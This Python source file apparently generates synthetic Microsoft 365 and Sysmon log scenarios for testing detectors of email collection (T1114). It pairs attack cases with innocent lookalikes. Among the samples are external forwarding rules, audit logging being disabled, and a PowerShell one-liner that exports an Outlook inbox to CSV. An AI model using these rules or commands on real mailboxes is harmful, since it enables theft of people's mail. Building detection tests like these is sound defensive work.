"""Families of T1114: how mail is collected, read and sent on, and what looks like it."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

from lab.families import names
from lab.families.company import addresses
from lab.families.story import DAY, Families, Story, pick

FAMILIES = Families("T1114")
attack, innocent = FAMILIES.attack, FAMILIES.innocent
HOUR = 3600.0
OWA = "00000002-0000-0ff1-ce00-000000000000"
IOS_ACCOUNTS = "f8d98a96-0999-43f5-8af3-69971c7bb423"
REST = "Client=REST;Client=RESTSystem;;"
OUTSIDE = ("example.net", "example.org", "gmail.com")
READERS = ("Invoices", "Team", "News", "Projects", "Travel")


class Firm:
    """People of one domain with an office, and what they do with mail on an ordinary day."""

    def __init__(self, story: Story, size: int = 8, days: int = 1) -> None:
        rng = story.rng
        self.domain = rng.choice(names.DOMAINS)
        self.people = names.people(rng, size, self.domain)
        self.used: set[str] = set()
        self.office = addresses(rng, 1, self.used)[0]
        self.outside, self.other = (self.elsewhere(story) for _ in range(2))
        self.admin = f"it.admin@{self.domain}"
        story.late = rng.choice((None, None, None, 3 * HOUR))
        story.twice = rng.random() < 0.2
        for day in range(days):
            for person in self.people:
                for _ in range(3):
                    self.reads(story, day * DAY + rng.uniform(8, 17) * HOUR, person, rng.randrange(1, 9))
        story.audit(9 * HOUR, "New-InboxRule", actor=self.people[-1], src=self.office, Parameters=self.filing(story))

    def elsewhere(self, story: Story) -> str:
        """An address in nobody's neighbourhood: strangers do not share a /24 with an office."""
        while True:
            (drawn,) = addresses(story.rng, 1, self.used)
            if all(drawn.rpartition(".")[0] != known.rpartition(".")[0] for known in self.used - {drawn}):
                return drawn

    def filing(self, story: Story) -> dict[str, Any]:
        """A rule as people file their mail with."""
        name = story.rng.choice(READERS)
        return {"Name": name, "From": f"news@{story.rng.choice(OUTSIDE)}", "MoveToFolder": name, "MarkAsRead": True}

    def reads(self, story: Story, at: float, person: str, items: int, **facts: Any) -> None:
        given = {"actor": person, "mailbox": person, "src": self.office, "app_id": OWA, "long_ids": False, **facts}
        story.audit(at, "MailItemsAccessed", folders={"\\Inbox": items}, **given)

    def signs_in(self, story: Story, at: float, person: str, src: str, code: int = 0) -> None:
        story.sign_in(at, person, src, code, app="Office 365 Exchange Online")


def a_time(story: Story) -> float:
    return story.rng.uniform(9, 18) * HOUR


def raw(story: Story, at: float, record: dict[str, Any]) -> None:
    """An audit record that no builder of the lab writes."""
    story.other(at, "raw", sourcetype="o365:management:activity", text=json.dumps(record))


def unknown_app(story: Story) -> str:
    return f"{story.rng.getrandbits(32):08x}-1111-4222-8333-{story.rng.getrandbits(48):012x}"


# --- sent on


@attack
def inbox_rule_sends_outside(story: Story) -> None:
    """A rule of Outlook on the web forwards or redirects to an address outside."""
    firm, rng = Firm(story), story.rng
    victim = firm.people[0]
    how = rng.choice(("ForwardTo", "RedirectTo", "ForwardAsAttachmentTo"))
    told = {"Name": rng.choice((".", "a", "Forward", "..")), how: f"x{rng.randrange(99)}@{rng.choice(OUTSIDE)}"}
    if rng.random() < 0.5:
        told["DeleteMessage"] = "True"
    story.audit(a_time(story), "New-InboxRule", actor=victim, src=firm.outside, Parameters=told)
    story.attackers.update({victim, firm.outside})


@attack
def outlook_rule_sends_outside(story: Story) -> None:
    """Outlook itself writes the rule: the destination stands in RuleActions."""
    firm, rng = Firm(story), story.rng
    victim = firm.people[0]
    actions = [{"ActionType": rng.choice(("Forward", "Redirect")), "Recipients": [f"b@{rng.choice(OUTSIDE)}"]}]
    story.audit(
        a_time(story),
        "UpdateInboxRules",
        actor=victim,
        mailbox=victim,
        src=firm.outside,
        actions=actions,
        rule_name=None,
    )
    story.attackers.update({victim, firm.outside})


@attack
def mailbox_setting_sends_outside(story: Story) -> None:
    """Forwarding is set on the mailbox, by the owner or an administrator, with or without a copy."""
    firm, rng = Firm(story), story.rng
    victim = firm.people[0]
    told = {
        "Identity": victim,
        "ForwardingSmtpAddress": f"smtp:v@{rng.choice(OUTSIDE)}",
        "DeliverToMailboxAndForward": rng.random() < 0.5,
    }
    actor = rng.choice((victim, firm.admin))
    story.audit(a_time(story), "Set-Mailbox", actor=actor, src=firm.outside, Parameters=told)
    story.attackers.update({victim, actor, firm.outside})


@attack
def transport_rule_copies(story: Story) -> None:
    """A rule of the organisation copies mail outside, at once or made first and enabled later."""
    firm, rng = Firm(story), story.rng
    at, how = a_time(story), rng.choice(("BlindCopyTo", "RedirectMessageTo", "CopyTo", "AddToRecipients"))
    told: dict[str, Any] = {"Name": "Disclaimer", how: f"j@{rng.choice(OUTSIDE)}"}
    if rng.random() < 0.5:
        told["Enabled"] = False
        story.audit(at + 2 * HOUR, "Enable-TransportRule", actor=firm.admin, Parameters={"Identity": "Disclaimer"})
    story.audit(at, "New-TransportRule", actor=firm.admin, src=firm.outside, Parameters=told)
    story.attackers.update({firm.admin, firm.outside})


@attack
def journal_rule_copies(story: Story) -> None:
    """A journal rule sends everything outside."""
    firm = Firm(story)
    told = {"Name": "Records", "JournalEmailAddress": f"r@{story.rng.choice(OUTSIDE)}", "Scope": "Global"}
    story.audit(a_time(story), "New-JournalRule", actor=firm.admin, src=firm.outside, Parameters=told)
    story.attackers.update({firm.admin, firm.outside})


@attack
def automatic_forwarding_is_allowed(story: Story) -> None:
    """The policies that keep mail from being forwarded outside are opened."""
    firm, rng = Firm(story), story.rng
    operation, told = rng.choice(
        (
            ("Set-RemoteDomain", {"Identity": "Default", "AutoForwardEnabled": True}),
            ("Set-HostedOutboundSpamFilterPolicy", {"Identity": "Default", "AutoForwardingMode": "On"}),
        )
    )
    story.audit(a_time(story), operation, actor=firm.admin, src=firm.outside, Parameters=told)
    story.attackers.update({firm.admin, firm.outside})


@attack
def imitated_domain(story: Story) -> None:
    """The destination's domain only looks like the company's."""
    firm, rng = Firm(story), story.rng
    victim, label = firm.people[0], firm.domain.split(".", 1)[0]
    domain = rng.choice((f"evil{firm.domain}", f"{firm.domain}.example.net", f"{label}-mail.example.org"))
    story.audit(
        a_time(story),
        "New-InboxRule",
        actor=victim,
        src=firm.outside,
        Parameters={"Name": "f", "ForwardTo": f"a@{domain}"},
    )
    story.attackers.update({victim, firm.outside})


@attack
def destination_is_a_guest_or_contact(story: Story) -> None:
    """The destination is a guest of the directory, or a contact that was made for it."""
    firm, rng = Firm(story), story.rng
    victim, at = firm.people[0], a_time(story)
    if rng.random() < 0.5:
        guest = f"jo_gmail.com#EXT#@{firm.domain}"
        story.audit(at, "New-InboxRule", actor=victim, src=firm.outside, Parameters={"Name": "g", "ForwardTo": guest})
    else:
        contact = {"Name": "Copy", "ExternalEmailAddress": "SMTP:c@example.net"}
        story.audit(at - 600, "New-MailContact", actor=firm.admin, src=firm.outside, Parameters=contact)
        told = {"Identity": victim, "ForwardingAddress": "Copy"}
        story.audit(at, "Set-Mailbox", actor=firm.admin, src=firm.outside, Parameters=told)
    story.attackers.update({victim, firm.admin, firm.outside})


@attack
def forwarded_for_seconds(story: Story) -> None:
    """Forwarding is on for a few seconds or minutes only."""
    firm, rng = Firm(story), story.rng
    victim, at = firm.people[0], a_time(story)
    on = {"Identity": victim, "ForwardingSmtpAddress": "smtp:d@example.net"}
    story.audit(at, "Set-Mailbox", actor=firm.admin, src=firm.outside, Parameters=on)
    off = {"Identity": victim, "ForwardingSmtpAddress": ""}
    story.audit(at + rng.uniform(5, 900), "Set-Mailbox", actor=firm.admin, src=firm.outside, Parameters=off)
    story.attackers.update({victim, firm.admin, firm.outside})


@attack
def rule_that_hides(story: Story) -> None:
    """A rule takes replies and warnings away from the owner."""
    firm, rng = Firm(story), story.rng
    victim = firm.people[0]
    told: dict[str, Any] = {
        "Name": rng.choice((".", "..", ",", "...", "aaaa")),
        "SubjectOrBodyContainsWords": rng.choice(
            ("invoice;payment;wire", "hacked;phishing;password", "bank;remittance")
        ),
    }
    told |= rng.choice(({"DeleteMessage": True}, {"MoveToFolder": "RSS Subscriptions", "MarkAsRead": True}))
    story.audit(a_time(story), "New-InboxRule", actor=victim, src=firm.outside, Parameters=told)
    story.attackers.update({victim, firm.outside})


# --- read over the network


@attack
def unknown_application_reads_much(story: Story) -> None:
    """A stolen token reads a mailbox through Graph."""
    firm, rng = Firm(story), story.rng
    victim, app, at = firm.people[0], unknown_app(story), a_time(story)
    for number in range(rng.randrange(8, 16)):
        firm.reads(story, at + number * 120, victim, rng.randrange(20, 60), src=firm.outside, client=REST, app_id=app)
    story.attackers.update({victim, app, firm.outside})


@attack
def application_reads_many_mailboxes(story: Story) -> None:
    """An application with permission to every mailbox goes through them."""
    firm, rng = Firm(story, size=12, days=3), story.rng
    app, at = unknown_app(story), 2 * DAY + a_time(story)
    for number, person in enumerate(firm.people):
        facts = {"src": firm.outside, "client": REST, "app_id": app, "app_only": True}
        firm.reads(story, at + number * rng.uniform(10, 60), person, rng.randrange(3, 40), **facts)
    story.attackers.update({app, firm.outside})


def granted(story: Story, at: float, firm: Firm, app: str, src: str) -> None:
    """An administrator lets an application read every mailbox."""
    raw(
        story,
        at,
        {
            "CreationTime": "2026-03-03T12:00:00", "Id": f"g-{app}-{at}", "RecordType": 8, "ResultStatus": "Success",
            "Operation": "Add app role assignment to service principal.", "UserId": firm.admin, "ClientIP": src,
            "ObjectId": "x", "ModifiedProperties": [
                {"Name": "AppRole.Value", "NewValue": "Mail.Read", "OldValue": ""},
                {"Name": "ServicePrincipal.AppId", "NewValue": app, "OldValue": ""},
            ],
        },
    )  # fmt: skip


def secret_added(story: Story, at: float, firm: Firm, app: str, src: str) -> None:
    """Somebody adds a secret to an application's registration."""
    details = json.dumps({"User-Agent": "Mozilla/5.0", "AppId": app})
    raw(
        story,
        at,
        {
            "CreationTime": "2026-03-03T12:00:00", "Id": f"s-{app}-{at}", "RecordType": 8, "ResultStatus": "Success",
            "Operation": "Update application – Certificates and secrets management ", "UserId": firm.admin,
            "ClientIP": src, "ObjectId": "Application_x",
            "ExtendedProperties": [{"Name": "additionalDetails", "Value": details}],
        },
    )  # fmt: skip


GRAPH_POWERSHELL, AZURE_CLI = "14d82eec-204b-4c2f-b7e8-296a70dab67e", "04b07795-8ddb-461a-bbee-02f9e1bf7b46"


@attack
def application_of_the_first_day_shows_itself(story: Story) -> None:
    """On the first day of a log, when nothing can be called new, an application shows itself by a second sign."""
    firm, rng = Firm(story, size=12), story.rng
    app, at = unknown_app(story), a_time(story)
    facts: dict[str, Any] = {"src": firm.outside, "client": REST, "app_only": True}
    sign = rng.choice(("grant", "secret", "script", "command line", "person", "second network"))
    if sign == "grant":
        granted(story, at - rng.uniform(600, 6 * HOUR), firm, app, firm.outside)
    elif sign == "secret":
        secret_added(story, at - rng.uniform(600, 6 * HOUR), firm, app, firm.outside)
    elif sign == "script":
        facts["client"] = (
            f"Client=WebServices;{rng.choice(('python-requests/2.31', 'Go-http-client/1.1', 'axios/1.6'))};"
        )
    elif sign == "command line":
        app = rng.choice((GRAPH_POWERSHELL, AZURE_CLI))
    elif sign == "person":
        facts |= {"actor": firm.people[0], "app_only": False}
    else:
        for number, person in enumerate(firm.people):
            firm.reads(story, HOUR + number * 20, person, 9, src=firm.other, client=REST, app_id=app, app_only=True)
    for number, person in enumerate(firm.people):
        firm.reads(story, at + number * rng.uniform(10, 45), person, rng.randrange(3, 40), app_id=app, **facts)
    story.attackers.update({app, firm.outside})


FOLDERS = ("Inbox", "Sent Items", "Archive", "Drafts", "Projects", "Contracts", "Clients", "Finance")
OUTLOOK = "Client=MSExchangeRPC"
MOBILE = "Client=OutlookService;Outlook-iOS/2.0;"
OUTLOOK_MOBILE = "27922004-5251-4030-b22d-91ecd9a37ea4"


def copies(story: Story, at: float, person: str, src: str, count: int, **facts: Any) -> None:
    """A client copies `count` folders, a few seconds apart."""
    given = {"actor": person, "mailbox": person, "client": OUTLOOK, **facts}
    for number in range(count):
        story.audit(
            at + number * story.rng.uniform(3, 30),
            "MailItemsAccessed",
            access="Sync",
            folder=FOLDERS[number % len(FOLDERS)],
            src=src,
            **given,
        )


def outlook_every_day(story: Story, firm: Firm, days: int, folders: int = 2) -> None:
    """Everybody's Outlook keeps a copy, in the office."""
    for day in range(days):
        for person in firm.people:
            copies(story, day * DAY + story.rng.uniform(8, 10) * HOUR, person, firm.office, folders)


@attack
def whole_mailbox_is_copied_by_a_new_outlook(story: Story) -> None:
    """With a bought password an Outlook, or a program over IMAP, is set up elsewhere and copies the mailbox."""
    firm, rng = Firm(story, days=4), story.rng
    outlook_every_day(story, firm, 4)
    victim = firm.people[0]
    client = rng.choice((OUTLOOK, OUTLOOK, "Client=POP3/IMAP4;Protocol=IMAP4"))
    at = 3 * DAY + rng.choice((2, 11, 14, 22)) * HOUR
    copies(story, at, victim, firm.outside, rng.randrange(3, 9), client=client)
    story.attackers.update({victim, firm.outside})


@attack
def inbox_is_copied_by_a_program_never_used(story: Story) -> None:
    """A mail program that nobody of the company uses copies the inbox alone."""
    firm = Firm(story, days=4)
    victim, app = firm.people[0], unknown_app(story)
    client = "Client=WebServices;eM Client/10.0.3266.0 (ExchangeServicesClient/15.00);"
    copies(story, 3 * DAY + a_time(story), victim, firm.outside, 1, client=client, app_id=app)
    story.attackers.update({victim, app, firm.outside})


@attack
def script_reads_over_web_services(story: Story) -> None:
    """A script's client string."""
    firm, rng = Firm(story), story.rng
    victim, at = firm.people[0], a_time(story)
    agent = rng.choice(("python-requests/2.31", "MailSniper", "Go-http-client/1.1", "EWSEditor"))
    for number in range(4):
        firm.reads(story, at + number * 90, victim, 20, src=firm.outside, client=f"Client=WebServices;{agent};")
    story.attackers.update({victim, firm.outside})


@attack
def person_reads_others(story: Story) -> None:
    """Somebody of the helpdesk opens the mailboxes of others."""
    firm, rng = Firm(story, size=10), story.rng
    actor, at = firm.admin, a_time(story)
    for number, person in enumerate(firm.people[:7]):
        firm.reads(story, at + number * 300, person, rng.randrange(10, 40), actor=actor, src=firm.outside, logon_type=1)
    story.attackers.update({actor, firm.outside})


@attack
def access_given_to_oneself(story: Story) -> None:
    """Full access, given to oneself, and used."""
    firm, rng = Firm(story), story.rng
    victim, at = firm.people[0], a_time(story)
    told = {"Identity": victim, "User": firm.admin, "AccessRights": "FullAccess", "AutoMapping": False}
    story.audit(at, "Add-MailboxPermission", actor=firm.admin, src=firm.outside, Parameters=told)
    for number in range(4):
        firm.reads(story, at + 600 + number * 120, victim, rng.randrange(10, 40), actor=firm.admin, src=firm.outside)
    story.attackers.update({victim, firm.admin, firm.outside})


@attack
def mailbox_is_exported(story: Story) -> None:
    """A mailbox goes into a file."""
    firm = Firm(story)
    told = {"Mailbox": firm.people[0], "FilePath": "\\\\files\\x.pst"}
    story.audit(a_time(story), "New-MailboxExportRequest", actor=firm.admin, src=firm.outside, Parameters=told)
    story.attackers.update({firm.admin, firm.outside})


@attack
def everything_is_searched_and_exported(story: Story) -> None:
    """A content search over every mailbox, exported."""
    firm, at = Firm(story), a_time(story)
    story.audit(
        at, "SearchCreated", actor=firm.admin, search="all", query="password", mailboxes="All", src=firm.outside
    )
    story.audit(at + 1800, "SearchExported", actor=firm.admin, search="all", mailboxes="All", src=firm.outside)
    story.attackers.update({firm.admin, firm.outside})


@attack
def people_consent_to_an_application(story: Story) -> None:
    """People are talked into an application that reads their mail."""
    firm, rng = Firm(story), story.rng
    app, at = unknown_app(story), a_time(story)
    for number, person in enumerate(firm.people[: rng.randrange(1, 4)]):
        client = "Id: x, ClientId: 33333333-2222-4333-8444-555555555555, ConsentType: Principal"
        scope = f"[] => [[{client}, Scope: offline_access Mail.Read]]"
        raw(
            story,
            at + number * 200,
            {
                "CreationTime": "2026-03-03T12:00:00", "Id": f"c{number}", "Operation": "Consent to application.",
                "RecordType": 8, "ResultStatus": "Success", "UserId": person, "ClientIP": firm.outside, "ObjectId": app,
                "ModifiedProperties": [
                    {"Name": "ConsentAction.Permissions", "NewValue": scope, "OldValue": ""},
                    {"Name": "TargetId.ServicePrincipalNames", "NewValue": app, "OldValue": ""},
                ],
            },
        )  # fmt: skip
        story.attackers.add(person)


@attack
def application_gets_every_mailbox(story: Story) -> None:
    """An application's permission to every mailbox, or a role that impersonates."""
    firm, rng = Firm(story), story.rng
    if rng.random() < 0.5:
        told = {"Role": "ApplicationImpersonation", "User": firm.people[0]}
        story.audit(a_time(story), "New-ManagementRoleAssignment", actor=firm.admin, src=firm.outside, Parameters=told)
    else:
        right = rng.choice(("Mail.Read", "Mail.ReadWrite", "full_access_as_app"))
        raw(
            story,
            a_time(story),
            {
                "CreationTime": "2026-03-03T12:00:00", "Id": "r", "RecordType": 8, "ResultStatus": "Success",
                "Operation": "Add app role assignment to service principal.", "UserId": firm.admin, "ObjectId": "x",
                "ModifiedProperties": [{"Name": "AppRole.Value", "NewValue": right, "OldValue": ""}],
            },
        )  # fmt: skip
    story.attackers.update({firm.admin, firm.outside})


@attack
def auditing_is_switched_off(story: Story) -> None:
    """What would show the reading is switched off."""
    firm, rng = Firm(story), story.rng
    victim = firm.people[0]
    operation, told = rng.choice(
        (
            ("Set-MailboxAuditBypassAssociation", {"Identity": victim, "AuditBypassEnabled": True}),
            ("Set-Mailbox", {"Identity": victim, "AuditEnabled": False}),
            ("Set-AdminAuditLogConfig", {"UnifiedAuditLogIngestionEnabled": False}),
        )
    )
    story.audit(a_time(story), operation, actor=firm.admin, src=firm.outside, Parameters=told)
    story.attackers.update({victim, firm.admin, firm.outside})


@attack
def second_session(story: Story) -> None:
    """A stolen cookie reads beside the owner."""
    firm, rng = Firm(story), story.rng
    victim, at = firm.people[0], 10 * HOUR
    for number in range(8):
        firm.reads(story, 9 * HOUR + number * 900, victim, 4, session_id="11111111-1111-4111-8111-111111111111")
    for number in range(5):
        given = {"src": firm.outside, "session_id": "22222222-2222-4222-8222-222222222222"}
        firm.reads(story, at + number * 200, victim, rng.randrange(25, 60), **given)
    story.attackers.update({victim, firm.outside})


@attack
def desktop_client_copies_everything(story: Story) -> None:
    """Another desktop client copies whole folders."""
    firm = Firm(story)
    victim, at = firm.people[0], 18 * HOUR
    for number, folder in enumerate(("Inbox", "Sent Items", "Archive", "Board")):
        story.audit(
            at + number * 60, "MailItemsAccessed", actor=victim, mailbox=victim, access="Sync", folder=folder,
            src=firm.outside, client="Client=MSExchangeRPC",
        )  # fmt: skip
    story.attackers.update({victim, firm.outside})


@attack
def access_is_no_longer_recorded(story: Story) -> None:
    """So much is read that Exchange stops recording."""
    firm = Firm(story)
    firm.reads(story, a_time(story), firm.people[0], 5, src=firm.outside, throttled=True)
    story.attackers.update({firm.people[0], firm.outside})


@attack
def archive_is_misused(story: Story) -> None:
    """The archive's application, known for a week, comes from another address."""
    firm = Firm(story, size=8, days=8)
    app = unknown_app(story)
    for day in range(8):
        for number, person in enumerate(firm.people):
            facts = {"src": firm.other, "client": REST, "app_id": app, "app_only": True}
            firm.reads(story, day * DAY + HOUR + number * 30, person, 20, **facts)
    for number, person in enumerate(firm.people):
        facts = {"src": firm.outside, "client": REST, "app_id": app, "app_only": True}
        firm.reads(story, 7 * DAY + 13 * HOUR + number * 30, person, 20, **facts)
    story.attackers.update({app, firm.outside})


@attack
def guessed_entered_and_sent_on(story: Story) -> None:
    """A spray of few names, a success, days later a rule from another address."""
    firm, rng = Firm(story, size=9), story.rng
    victim, at = firm.people[0], 2 * HOUR
    for number, person in enumerate(firm.people[:6]):
        firm.signs_in(story, at + number * 30, person, firm.outside, 50126)
    firm.signs_in(story, at + 300, victim, firm.outside)
    later = rng.choice((HOUR, 3 * DAY))
    story.audit(
        at + later, "New-InboxRule", actor=victim, src=firm.other, Parameters={"Name": "Sales", "MoveToFolder": "Sales"}
    )
    told = {"Identity": victim, "User": firm.people[1], "AccessRights": "FullAccess"}
    story.audit(at + later + 300, "Add-MailboxPermission", actor=victim, src=firm.other, Parameters=told)
    story.attackers.update({victim, firm.outside, firm.other})


# --- on the machine


def sysmon(story: Story, at: float, event_id: int, image: str, **facts: str) -> None:
    given = {"User": "CONTOSO\\dana", "Computer": "WS-014.contoso.com", **facts}
    story.other(at, "sysmon", event_id=event_id, Image=image, **given)


@attack
def stores_are_staged(story: Story) -> None:
    """Copy and archive tools gather mail stores."""
    rng, at = story.rng, a_time(story)
    tool = rng.choice(("Robocopy.exe", "xcopy.exe", "cmd.exe", "WindowsPowerShell\\v1.0\\powershell.exe"))
    place = rng.choice(("C:\\Users\\Public\\x", "C:\\ProgramData\\t", "C:\\Windows\\Temp", "\\\\192.0.2.9\\drop"))
    for number in range(rng.randrange(1, 4)):
        sysmon(story, at + number * 20, 11, f"C:\\Windows\\System32\\{tool}", TargetFilename=f"{place}\\a{number}.pst")
    story.attackers.add("ws-014")


@attack
def stores_are_packed_by_a_renamed_tool(story: Story) -> None:
    """An archiver under another name, or a program with a mail client's name."""
    at = a_time(story)
    if story.rng.random() < 0.5:
        line = 'svc.exe a o.7z "C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost"'
        sysmon(
            story, at, 1, "C:\\Users\\dana\\AppData\\Local\\Temp\\svc.exe", CommandLine=line, OriginalFileName="7z.exe"
        )
    else:
        sysmon(
            story, at, 11, "C:\\Users\\dana\\Downloads\\outlook.exe", TargetFilename="C:\\Users\\dana\\Downloads\\a.pst"
        )
    story.attackers.add("ws-014")


@attack
def stores_are_read_in_place(story: Story) -> None:
    """A program nobody knows reads the store where it lies."""
    program = story.rng.choice(("C:\\Users\\dana\\AppData\\Roaming\\u\\h.exe", "C:\\Windows\\System32\\rundll32.exe"))
    story.other(
        a_time(story), "security", ProcessName=program, User="CONTOSO\\dana", Computer="WS-014.contoso.com",
        ObjectName="C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost",
    )  # fmt: skip
    story.attackers.add("ws-014")


@attack
def outlook_is_driven_by_a_script(story: Story) -> None:
    """A script opens the inbox through Outlook."""
    folder = "(New-Object -ComObject Outlook.Application).GetNamespace('MAPI').GetDefaultFolder(6)"
    line = f'powershell -c "{folder}.Items | Export-Csv m.csv"'
    image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    sysmon(story, a_time(story), 1, image, CommandLine=line)
    story.attackers.add("ws-014")


# --- innocent


@innocent
def people_file_their_mail(story: Story) -> None:
    """Newsletters, invoices, alerts: rules of every kind that hide nothing."""
    firm = Firm(story)
    for number, person in enumerate(firm.people):
        story.audit(
            9 * HOUR + number * 300, "New-InboxRule", actor=person, src=firm.office, Parameters=firm.filing(story)
        )
    told = {
        "Name": "Supplier invoices",
        "SubjectContainsWords": "invoice",
        "MoveToFolder": "Archive",
        "MarkAsRead": True,
    }
    story.audit(12 * HOUR, "New-InboxRule", actor=firm.people[0], src=firm.office, Parameters=told)
    told = {"Name": "No coupons", "From": "shop@example.net", "DeleteMessage": True}
    story.audit(12 * HOUR, "New-InboxRule", actor=firm.people[1], src=firm.office, Parameters=told)


@innocent
def leaver_is_forwarded_inside(story: Story) -> None:
    """An administrator forwards a leaver's mail to the successor; somebody forwards to a colleague on holiday."""
    firm, at = Firm(story), a_time(story)
    told = {
        "Identity": firm.people[0],
        "ForwardingSmtpAddress": f"smtp:{firm.people[1]}",
        "DeliverToMailboxAndForward": True,
    }
    story.audit(at, "Set-Mailbox", actor=firm.admin, src=firm.office, Parameters=told)
    story.audit(
        at,
        "New-InboxRule",
        actor=firm.people[2],
        src=firm.office,
        Parameters={"Name": "Holiday", "ForwardTo": firm.people[3]},
    )


@innocent
def forwarding_is_switched_off(story: Story) -> None:
    """An administrator cleans forwards up."""
    firm, at = Firm(story), a_time(story)
    for number, person in enumerate(firm.people[:4]):
        told = {"Identity": person, "ForwardingSmtpAddress": "", "DeliverToMailboxAndForward": False}
        story.audit(at + number * 60, "Set-Mailbox", actor=firm.admin, src=firm.office, Parameters=told)
    story.audit(at, "Remove-InboxRule", actor=firm.people[5], src=firm.office, Parameters={"Identity": "old"})


@innocent
def exchange_works(story: Story) -> None:
    """Exchange's own records."""
    firm = Firm(story)
    for number, actor in enumerate(("(Microsoft.Exchange.ServiceHost)", "(Microsoft.Exchange.Servicehost)", "(w3wp)")):
        told = {"Identity": firm.people[0], "ForwardingSmtpAddress": "smtp:x@example.net"}
        story.audit(9 * HOUR + number, "Set-Mailbox", actor=f"NT AUTHORITY\\SYSTEM {actor}", Parameters=told)


@innocent
def shared_mailbox(story: Story) -> None:
    """A team reads the mailbox it was given."""
    firm, rng = Firm(story), story.rng
    box = f"support@{firm.domain}"
    for number in range(24):
        firm.reads(story, 9 * HOUR + number * 600, box, rng.randrange(2, 9), actor=firm.people[number % 5])


@innocent
def assistant(story: Story) -> None:
    """An assistant reads and answers in the mailbox of a superior, all day."""
    firm, rng = Firm(story), story.rng
    boss, helper = firm.people[:2]
    for number in range(20):
        firm.reads(story, 9 * HOUR + number * 1200, boss, rng.randrange(1, 8), actor=helper)
        story.audit(9 * HOUR + number * 1200 + 60, "SendOnBehalf", actor=helper, mailbox=boss, src=firm.office)


@innocent
def much_to_read(story: Story) -> None:
    """An owner back from holiday reads four hundred mails in a morning."""
    firm, rng = Firm(story), story.rng
    for number in range(20):
        firm.reads(story, 8 * HOUR + number * 400, firm.people[0], rng.randrange(10, 25))


@innocent
def new_phone(story: Story) -> None:
    """A new phone copies every folder from a mobile network, after its mail client was consented to."""
    firm = Firm(story)
    person, at = firm.people[0], a_time(story)
    raw(
        story,
        at,
        {
            "CreationTime": "2026-03-03T12:00:00", "Id": "k", "Operation": "Consent to application.", "RecordType": 8,
            "ResultStatus": "Success", "UserId": person, "ClientIP": firm.other,
            "ObjectId": IOS_ACCOUNTS,
            "ModifiedProperties": [
                {"Name": "ConsentAction.Permissions", "NewValue": "Scope: EAS.AccessAsUser.All", "OldValue": ""},
                {"Name": "TargetId.ServicePrincipalNames", "NewValue": IOS_ACCOUNTS, "OldValue": ""},
            ],
        },
    )  # fmt: skip
    for number, folder in enumerate(("Inbox", "Sent Items", "Archive", "Drafts", "Projects")):
        story.audit(
            at + 60 + number * 20, "MailItemsAccessed", actor=person, mailbox=person, access="Sync", folder=folder,
            src=firm.other, client="Client=OutlookService;Outlook-iOS/2.0;",
            app_id="27922004-5251-4030-b22d-91ecd9a37ea4",
        )  # fmt: skip


@innocent
def new_computers(story: Story) -> None:
    """New computers in the office and at home, an Outlook that builds its copy anew, a laptop on a journey."""
    firm, rng = Firm(story, days=4), story.rng
    outlook_every_day(story, firm, 4)
    home = firm.other
    for day in range(3):
        firm.reads(story, day * DAY + 20 * HOUR, firm.people[1], rng.randrange(1, 5), src=home)
    copies(story, 3 * DAY + a_time(story), firm.people[0], firm.office, 8)
    copies(story, 3 * DAY + 19 * HOUR, firm.people[1], home, 8)
    copies(story, 3 * DAY + 21 * HOUR, firm.people[2], firm.outside, 2)


@innocent
def phones_for_everybody(story: Story) -> None:
    """Everybody gets a new phone; each copies its folders and loads mail from a network of its own."""
    firm, rng = Firm(story, size=14, days=3), story.rng
    networks = [firm.elsewhere(story) for _ in firm.people]
    for number, person in enumerate(firm.people):
        at = 2 * DAY + 9 * HOUR + number * rng.uniform(60, 900)
        copies(story, at, person, networks[number], rng.randrange(3, 8), client=MOBILE, app_id=OUTLOOK_MOBILE)
        firm.reads(
            story, at + 90, person, rng.randrange(20, 90), src=networks[number], client=MOBILE, app_id=OUTLOOK_MOBILE
        )


@innocent
def holiday_cover(story: Story) -> None:
    """Deputies get access to mailboxes for the holidays, and their Outlook copies the folders."""
    firm, rng = Firm(story, days=3), story.rng
    outlook_every_day(story, firm, 3)
    for number in range(2):
        boss, deputy = firm.people[number], firm.people[number + 3]
        told = {"Identity": boss, "User": deputy, "AccessRights": "FullAccess"}
        at = 2 * DAY + (9 + number) * HOUR
        story.audit(at, "Add-MailboxPermission", actor=firm.admin, src=firm.office, Parameters=told)
        copies(story, at + 1800, boss, firm.office, 5, actor=deputy)
        for turn in range(6):
            firm.reads(story, at + 3600 + turn * 900, boss, rng.randrange(2, 12), actor=deputy)


def nightly(story: Story, firm: Firm, days: int, app: str) -> None:
    for day in range(days):
        for number, person in enumerate(firm.people):
            facts = {"src": firm.other, "client": REST, "app_id": app, "app_only": True}
            firm.reads(story, day * DAY + HOUR + number * 20, person, story.rng.randrange(10, 40), **facts)


@innocent
def archive_of_every_night(story: Story) -> None:
    """An archive reads the same mailboxes every night for nine nights; rules are enabled after three of them.

    The first night of an application without a history is told (test_first_days_of_an_application.py).
    """
    firm = Firm(story, size=10, days=9)
    story.learning = 3 * DAY
    nightly(story, firm, 9, unknown_app(story))


@innocent
def archive_there_before_the_log(story: Story) -> None:
    """An archive, backup or customer software reads its mailboxes every night, and did so before the log begins."""
    rng = story.rng
    firm = Firm(story, size=rng.randrange(7, 30), days=4)
    app, hour, pace = unknown_app(story), rng.choice((0, 1, 3, 5, 12, 20, 22)), rng.uniform(5, 60)
    facts: dict[str, Any] = {"src": firm.other, "client": REST, "app_only": True}
    if rng.random() < 0.5:
        facts = {"src": firm.other, "client": "Client=WebServices;ExchangeServicesClient/15.00.0913.015;"}
        facts |= {"actor": f"svc-archive@{firm.domain}"} if rng.random() < 0.5 else {"app_only": True}
    for day in range(4):
        for number, person in enumerate(firm.people):
            at = day * DAY + hour * HOUR + 600 + number * pace
            firm.reads(story, at, person, rng.randrange(10, 40), app_id=app, **facts)


@innocent
def own_application_whose_secret_rotates(story: Story) -> None:
    """An application of the company reads every six hours; its secret is changed on the first day and again later."""
    firm, app = Firm(story, size=8, days=3), unknown_app(story)
    for turn in range(3 * 4):
        for number, person in enumerate(firm.people):
            at = turn * 6 * HOUR + 120 + number * 15
            firm.reads(story, at, person, 2, src=firm.other, client=REST, app_id=app, app_only=True)
    for day in (0, 2):
        secret_added(story, day * DAY + a_time(story), firm, app, firm.office)


@innocent
def customer_software_that_grows(story: Story) -> None:
